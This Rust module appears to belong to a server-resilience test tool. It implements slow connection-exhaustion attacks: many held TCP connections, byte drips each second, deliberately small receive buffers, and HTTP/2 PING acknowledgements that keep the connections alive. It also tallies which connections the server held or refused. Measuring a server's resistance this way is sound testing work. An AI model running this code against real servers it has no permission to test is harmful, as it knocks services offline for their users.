//! The connections of an attack.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval};
use tokio_util::sync::CancellationToken;

use super::kind::{Attack, Script, Target};

/// Connections that are opened at the same time.
const OPENING: usize = 64;
/// The receive buffer of a client that does not read. The rest stays at the server.
const SMALL_BUFFER: u32 = 4096;

/// How many connections the server kept until the end, and how many it refused or closed.
#[derive(Clone, Copy, Debug, Default)]
pub struct Fates {
    pub held: usize,
    pub refused: usize,
}

pub struct Attackers {
    stop: CancellationToken,
    /// Each returns whether its connection was held until the end.
    running: JoinSet<bool>,
}

impl Attackers {
    /// Starts to open the connections.
    pub fn start(attack: Attack, target: &Target, is_smoke: bool) -> Result<Self> {
        let script = Arc::new(attack.script(target)?);
        let (stop, mut running, opening) =
            (CancellationToken::new(), JoinSet::new(), Arc::new(Semaphore::new(OPENING)));
        for _ in 0..attack.connections(is_smoke) {
            let (script, stop, opening, address) =
                (script.clone(), stop.clone(), opening.clone(), target.address);
            running.spawn(async move {
                let connecting = async {
                    let _permit = opening.acquire().await.ok()?;
                    connect(address, &script).await.ok()
                };
                match stop.run_until_cancelled(connecting).await.flatten() {
                    Some(connection) => is_held(connection, &script, &stop).await,
                    None => false,
                }
            });
        }
        Ok(Self { stop, running })
    }

    /// Closes the connections.
    pub async fn stop(self) -> Fates {
        self.stop.cancel();
        let held = self.running.join_all().await;
        let count = held.iter().filter(|is_held| **is_held).count();
        Fates { held: count, refused: held.len() - count }
    }
}

async fn connect(address: SocketAddr, script: &Script) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if !script.reads {
        socket.set_recv_buffer_size(SMALL_BUFFER)?;
    }
    let mut connection = socket.connect(address).await?;
    connection.write_all(&script.opening).await?;
    Ok(connection)
}

/// Follows the script until `stop`. Returns false as soon as the server refuses the request or closes the connection.
async fn is_held(mut connection: TcpStream, script: &Script, stop: &CancellationToken) -> bool {
    let (mut reader, mut writer) = connection.split();
    let mut ticks = interval(Duration::from_secs(1));
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut buffer = [0; 1024];
    let mut pings = Pings::default();
    loop {
        tokio::select! {
            () = stop.cancelled() => return true,
            _ = ticks.tick() => {
                if writer.write_all(&script.drop).await.is_err() {
                    return false;
                }
            }
            read = reader.read(&mut buffer), if script.reads => {
                let received = match read {
                    Ok(count @ 1..) => &buffer[..count],
                    _ => return false,
                };
                if script.is_http2 {
                    let replies = pings.replies(received);
                    if writer.write_all(&replies).await.is_err() {
                        return false;
                    }
                } else if is_refusal(received) {
                    return false;
                }
            }
        }
    }
}

fn is_refusal(response: &[u8]) -> bool {
    [&b"HTTP/1.1 4"[..], b"HTTP/1.1 5"].iter().any(|refusal| response.starts_with(refusal))
}

/// Acknowledges the PINGs and SETTINGS of an HTTP/2 server (RFC 9113, sections 6.5 and 6.7).
#[derive(Default)]
struct Pings(Vec<u8>);

impl Pings {
    const HEAD: usize = 9;
    const SETTINGS: u8 = 4;
    const PING: u8 = 6;
    const ACK: u8 = 1;

    fn replies(&mut self, received: &[u8]) -> Vec<u8> {
        self.0.extend_from_slice(received);
        let mut replies = Vec::new();
        while let [high, middle, low, kind, flags, ..] = self.0[..] {
            let end = Self::HEAD + u32::from_be_bytes([0, high, middle, low]) as usize;
            if self.0.len() < end {
                break;
            }
            let frame: Vec<u8> = self.0.drain(..end).collect();
            if flags & Self::ACK == 0 {
                match kind {
                    Self::PING => replies.extend([&[0, 0, 8, Self::PING, Self::ACK], &frame[5..]].concat()),
                    Self::SETTINGS => replies.extend([0, 0, 0, Self::SETTINGS, Self::ACK, 0, 0, 0, 0]),
                    _ => {}
                }
            }
        }
        replies
    }
}
